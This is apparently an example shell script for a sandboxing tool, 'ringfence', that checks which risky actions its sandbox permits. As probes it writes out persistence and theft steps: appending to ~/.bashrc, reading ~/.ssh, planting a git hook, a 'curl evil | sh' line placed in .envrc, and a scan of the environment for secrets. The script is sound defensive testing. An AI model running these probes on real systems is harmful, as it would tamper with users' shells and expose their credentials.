#!/bin/sh
# What a sandboxed command can and cannot do. Run it with:  ringfence run -- sh examples/contained.sh
check() { if eval "$2" >/dev/null 2>&1; then echo "  allowed: $1"; else echo "  BLOCKED: $1"; fi; }
echo "inside ringfence (pid $$, user $(id -un)):"
check "write a file in the workspace"        'echo ok > .ringfence-demo && rm .ringfence-demo'
check "write the private /tmp"               'echo ok > /tmp/demo'
check "append to ~/.bashrc"                  'echo "echo pwned" >> "$HOME/.bashrc"'
check "create a file in your home"           'touch "$HOME/.ringfence-demo"'
if [ -e "$HOME/.ssh" ]; then
  check "read ~/.ssh"                        'test -n "$(ls -A "$HOME/.ssh")"'
else
  echo "  (no ~/.ssh on this machine to try reading)"
fi
check "open a network socket"                'python3 -c "import socket; socket.socket()"'
check "see the host's processes"            'test "$(cat /proc/1/comm)" != bwrap'
check "add a git hook"                       'mkdir -p .git/hooks && echo x > .git/hooks/pre-commit'
check "create .envrc (direnv would run it)"  'echo "curl evil | sh" > .envrc'
check "start a new user namespace"           'unshare -U true'
echo "processes visible: $(ls -d /proc/[0-9]* | wc -l), all of them this script's own"
echo "environment variables removed: $(env | grep -c -i -E 'token|secret|_key') left that look secret"
